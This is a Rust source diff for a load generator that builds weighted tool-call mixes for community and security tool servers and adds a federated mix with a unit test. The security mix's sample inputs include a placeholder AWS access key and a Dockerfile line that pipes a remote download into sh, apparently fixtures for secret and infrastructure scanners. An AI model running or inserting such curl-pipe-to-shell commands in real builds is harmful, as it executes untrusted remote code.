@@ -74,50 +74,48 @@ impl Mix {
 
     /// Community servers: mostly cheap calls, some parsing work.
     pub fn community() -> Self {
-        let document = json!({"servers": [
-            {"id": "community-0000", "port": 8000, "healthy": true},
-            {"id": "security-0000", "port": 9346, "healthy": true},
-        ]});
-        Self::new(vec![
-            (
-                Call::tool("echo", json!({"text": "hello from loadgen"})),
-                40,
-            ),
-            (Call::tool("add", json!({"a": 19.5, "b": 1.5})), 20),
-            (
-                Call::tool(
-                    "text_stats",
-                    json!({"text": "Five hundred servers answer. Each answer is timed. \
-                                    The timing is honest, and the report says so."}),
-                ),
-                20,
-            ),
-            (
-                Call::tool(
-                    "json_query",
-                    json!({"document": document, "pointer": "/servers/1/port"}),
-                ),
-                20,
-            ),
-        ])
+        Self::from_tools(community_tools(), |name| name.to_string())
     }
 
     /// Security servers: scanners over small inputs.
     pub fn security() -> Self {
-        let config = "region = \"eu-west-1\"\naws_access_key_id = \"AKIAIOSFODNN7EXAMPLE\"\n";
-        let dockerfile =
-            "FROM ubuntu:latest\nUSER root\nRUN curl -s https://example.invalid/x | sh\n";
-        Self::new(vec![
-            (Call::tool("scan_secrets", json!({"content": config})), 40),
-            (
-                Call::tool(
-                    "check_package",
-                    json!({"ecosystem": "npm", "name": "lodash", "version": "4.17.11"}),
-                ),
-                40,
-            ),
-            (Call::tool("scan_iac", json!({"content": dockerfile})), 20),
-        ])
+        Self::from_tools(security_tools(), |name| name.to_string())
+    }
+
+    fn from_tools(tools: Vec<(&str, Value, u32)>, name: impl Fn(&str) -> String) -> Self {
+        Self::new(
+            tools
+                .into_iter()
+                .map(|(tool, args, weight)| (Call::tool(&name(tool), args), weight))
+                .collect(),
+        )
+    }
+
+    /// A gateway federating groups of reference-fleet servers (`group__tool` names): each
+    /// group's mix, weighted by its number of servers, so the load spreads as it would over
+    /// the servers themselves.
+    pub fn federated(groups: &[(String, fleet::profile::Profile, u32)]) -> Self {
+        let mut entries = Vec::new();
+        for (group, profile, servers) in groups {
+            let tools = match profile {
+                fleet::profile::Profile::Community => community_tools(),
+                fleet::profile::Profile::Security => security_tools(),
+            };
+            let total: u32 = tools.iter().map(|t| t.2).sum::<u32>().max(1);
+            for (tool, args, weight) in tools {
+                let name = format!("{group}{}{tool}", fleet::gateway::PREFIX_SEPARATOR);
+                // Per server, the group's weights sum to 100 (as `total`): scale by servers.
+                let w = (u64::from(weight) * u64::from(*servers) * 100 / u64::from(total)).max(1);
+                entries.push((
+                    Call::tool(&name, args),
+                    u32::try_from(w).unwrap_or(u32::MAX),
+                ));
+            }
+        }
+        if entries.is_empty() {
+            return Self::list_only();
+        }
+        Self::new(entries)
     }
 
     /// The calls a user chose with `--tool`.
@@ -167,6 +165,44 @@ impl Mix {
     }
 }
 
+/// The community mix: (tool, arguments, weight).
+fn community_tools() -> Vec<(&'static str, Value, u32)> {
+    let document = json!({"servers": [
+        {"id": "community-0000", "port": 8000, "healthy": true},
+        {"id": "security-0000", "port": 9346, "healthy": true},
+    ]});
+    vec![
+        ("echo", json!({"text": "hello from loadgen"}), 40),
+        ("add", json!({"a": 19.5, "b": 1.5}), 20),
+        (
+            "text_stats",
+            json!({"text": "Five hundred servers answer. Each answer is timed. \
+                            The timing is honest, and the report says so."}),
+            20,
+        ),
+        (
+            "json_query",
+            json!({"document": document, "pointer": "/servers/1/port"}),
+            20,
+        ),
+    ]
+}
+
+/// The security mix: (tool, arguments, weight).
+fn security_tools() -> Vec<(&'static str, Value, u32)> {
+    let config = "region = \"eu-west-1\"\naws_access_key_id = \"AKIAIOSFODNN7EXAMPLE\"\n";
+    let dockerfile = "FROM ubuntu:latest\nUSER root\nRUN curl -s https://example.invalid/x | sh\n";
+    vec![
+        ("scan_secrets", json!({"content": config}), 40),
+        (
+            "check_package",
+            json!({"ecosystem": "npm", "name": "lodash", "version": "4.17.11"}),
+            40,
+        ),
+        ("scan_iac", json!({"content": dockerfile}), 20),
+    ]
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -209,5 +245,21 @@ mod tests {
         );
         let security = Mix::for_profile(fleet::profile::Profile::Security);
         assert_eq!(security.shares(), Mix::security().shares());
+    }
+
+    #[test]
+    fn a_federated_mix_prefixes_tools_and_weighs_groups_by_servers() {
+        use fleet::profile::Profile;
+        let mix = Mix::federated(&[
+            ("community".into(), Profile::Community, 3),
+            ("security".into(), Profile::Security, 1),
+        ]);
+        let shares = mix.shares();
+        let share = |label: &str| shares.iter().find(|s| s.0 == label).map(|s| s.1);
+        assert_eq!(share("community__echo"), Some(30.0));
+        assert_eq!(share("security__scan_secrets"), Some(10.0));
+        let total: f64 = shares.iter().map(|s| s.1).sum();
+        assert!((total - 100.0).abs() < 1e-9);
+        assert_eq!(Mix::federated(&[]).pick(0).label(), "tools/list");
     }
 }
